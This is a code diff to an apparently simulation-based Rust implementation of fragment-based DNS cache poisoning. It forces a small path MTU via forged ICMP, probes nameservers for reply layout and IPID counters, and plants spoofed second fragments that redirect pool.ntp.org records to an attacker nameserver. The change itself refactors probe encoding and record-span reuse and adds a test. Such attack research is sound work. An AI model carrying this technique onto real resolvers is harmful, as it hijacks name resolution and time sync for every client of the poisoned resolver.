@@ -7,10 +7,13 @@
 //!    before the PMTU cache expires).
 //! 2. **Probe**: periodic direct DNS queries to each nameserver — the
 //!    responses yield both the response byte layout (for forging) and the
-//!    IPID counter samples (for prediction). A reply is only checked and
-//!    kept; it is forged into a spoofed tail when a plant round uses it.
-//!    Once the resolver is fully poisoned no plant round is left, so the
-//!    probes still go out but their replies and IPIDs go unread.
+//!    IPID counter samples (for prediction). Each probe is a copy of one
+//!    encoded query with its TXID patched in. A reply is checked and kept
+//!    with its record layout, both from the one checked walk that accepts
+//!    it; a plant round forges the spoofed tail from that layout without
+//!    walking the reply again. Once the resolver is fully poisoned no plant
+//!    round is left, so the probes still go out but their replies and IPIDs
+//!    go unread.
 //! 3. **Plant**: every 25 s (under the 30 s Linux reassembly timeout),
 //!    spoofed second fragments for a window of predicted IPIDs are placed
 //!    in the resolver's defragmentation cache, for every target NS.
@@ -23,7 +26,7 @@
 use netsim::fasthash::FastMap;
 use std::net::Ipv4Addr;
 
-use bytes::Bytes;
+use bytes::{Bytes, BytesMut};
 use dns::auth::DNS_PORT;
 use dns::message::{Message, MessageView};
 use dns::name::Name;
@@ -31,9 +34,10 @@ use dns::record::RecordType;
 use netsim::prelude::*;
 use rand::RngExt;
 
-use crate::forge::forge_tail;
+use crate::forge::SpanTail;
 use crate::icmp_force::{forge_frag_needed, FORCED_MTU};
 use crate::ipid::IpidPredictor;
+use crate::wire_walk::RecordSpan;
 
 /// Configuration of the poisoning pipeline.
 #[derive(Debug, Clone)]
@@ -131,6 +135,8 @@ struct TargetState {
     predictor: IpidPredictor,
     /// The latest accepted probe reply (DNS payload).
     reply: Option<Bytes>,
+    /// The layout of `reply`'s records, from the walk that accepted it.
+    spans: Vec<RecordSpan>,
 }
 
 const PROBE_PORT: u16 = 5399;
@@ -146,6 +152,9 @@ pub struct PoisonPipeline {
     probe_pending: FastMap<u16, Ipv4Addr>,
     control_pending: FastMap<u16, ControlQuery>,
     check_name: Option<Name>,
+    /// The walk buffer of the next probe reply, swapped with the kept
+    /// layout when the reply is accepted.
+    scratch_spans: Vec<RecordSpan>,
     last_icmp: Option<SimTime>,
     last_probe: Option<SimTime>,
     last_plant: Option<SimTime>,
@@ -174,6 +183,7 @@ impl PoisonPipeline {
             probe_pending: FastMap::default(),
             control_pending: FastMap::default(),
             check_name: None,
+            scratch_spans: Vec::new(),
             last_icmp: None,
             last_probe: None,
             last_plant: None,
@@ -254,15 +264,16 @@ impl PoisonPipeline {
     /// same probes go out, but nothing waits for their replies.
     fn send_probes(&mut self, ctx: &mut Ctx<'_>) {
         self.last_probe = Some(ctx.now());
+        let query = Message::query(0, self.config.pool_domain.clone(), RecordType::A, false);
+        let query = query.encode();
         for &ns in &self.config.ns_targets {
             let txid: u16 = ctx.rng().random();
-            let query = Message::query(txid, self.config.pool_domain.clone(), RecordType::A, false);
-            if let Ok(wire) = query.encode() {
+            if let Ok(query) = &query {
                 self.stats.probes_sent += 1;
                 if !self.fully_poisoned() {
                     self.probe_pending.insert(txid, ns);
                 }
-                ctx.send_udp(ns, PROBE_PORT, DNS_PORT, wire);
+                ctx.send_udp(ns, PROBE_PORT, DNS_PORT, with_txid(query, txid));
             }
         }
     }
@@ -281,10 +292,8 @@ impl PoisonPipeline {
             if ipids.is_empty() {
                 continue;
             }
-            let Ok(tail) = forge_tail(reply, mtu, attacker_ns) else { continue };
-            for pkt in tail.fragments(ns, resolver, &ipids) {
-                to_send.push(pkt);
-            }
+            let Ok(tail) = SpanTail::forge(reply, &state.spans, mtu, attacker_ns) else { continue };
+            to_send.extend(ipids.iter().map(|&ipid| tail.fragment(ns, resolver, ipid)));
         }
         for pkt in to_send {
             self.stats.fragments_planted += 1;
@@ -335,20 +344,24 @@ impl PoisonPipeline {
         }
     }
 
-    /// Keeps a nameserver's reply to a pending probe. A reply that fails
-    /// the message checks leaves the probe pending and the previous reply
-    /// in place.
+    /// Keeps a nameserver's reply to a pending probe, with the layout of
+    /// its records from the walk that checks it. A reply that fails the
+    /// message checks leaves the probe pending and the previous reply in
+    /// place.
     fn accept_probe_reply(&mut self, src: Ipv4Addr, payload: &Bytes) {
-        let Ok(msg) = MessageView::new(payload) else { return };
+        let Ok(msg) = MessageView::with_spans(payload, &mut self.scratch_spans) else { return };
         let header = msg.header();
         if !header.qr || self.probe_pending.remove(&header.id).is_none() {
             return;
         }
         if let Some(state) = self.targets.get_mut(&src) {
             state.reply = Some(payload.clone());
+            std::mem::swap(&mut state.spans, &mut self.scratch_spans);
             if self.check_name.is_none() {
-                let forged = forge_tail(payload, self.config.forced_mtu, self.config.attacker_ns);
-                self.check_name = forged.ok().and_then(|t| t.poisoned_names.first().cloned());
+                let (mtu, attacker_ns) = (self.config.forced_mtu, self.config.attacker_ns);
+                let forged = SpanTail::forge(payload, &state.spans, mtu, attacker_ns);
+                let first = forged.ok().and_then(|t| t.poisoned().next());
+                self.check_name = first.and_then(|span| span.name(payload).ok());
             }
         }
     }
@@ -363,6 +376,7 @@ impl PoisonPipeline {
             self.probe_pending.clear();
             for state in self.targets.values_mut() {
                 state.reply = None;
+                state.spans.clear();
             }
         }
     }
@@ -398,6 +412,14 @@ impl PoisonPipeline {
             _ => false,
         }
     }
+}
+
+/// A copy of the encoded `query` with its ID set to `txid`.
+fn with_txid(query: &[u8], txid: u16) -> Bytes {
+    let mut wire = BytesMut::with_capacity(query.len());
+    wire.extend_from_slice(query);
+    wire[..2].copy_from_slice(&txid.to_be_bytes());
+    wire.freeze()
 }
 
 fn due(now: SimTime, last: Option<SimTime>, interval: SimDuration) -> bool {
@@ -509,6 +531,21 @@ mod tests {
         p.confirm(t(2), true);
         p.confirm(t(3), true);
         assert_eq!(state(&p), (Some(t(1)), Some(t(2)), (0, false)));
+    }
+
+    /// A patched probe is the query encoded with its TXID.
+    #[test]
+    fn patched_probes_equal_encoded_queries() {
+        for name in
+            ["pool.ntp.org", "0.pool.ntp.org", "a-much-longer-label.europe.pool.ntp.org", "."]
+        {
+            let name: Name = name.parse().unwrap();
+            let encode = |txid| Message::query(txid, name.clone(), RecordType::A, false).encode();
+            let query = encode(0).unwrap();
+            for txid in [0, 1, 0x00FF, 0x1234, 0xFF00, u16::MAX] {
+                assert_eq!(with_txid(&query, txid), encode(txid).unwrap(), "{name} txid {txid}");
+            }
+        }
     }
 
     #[test]
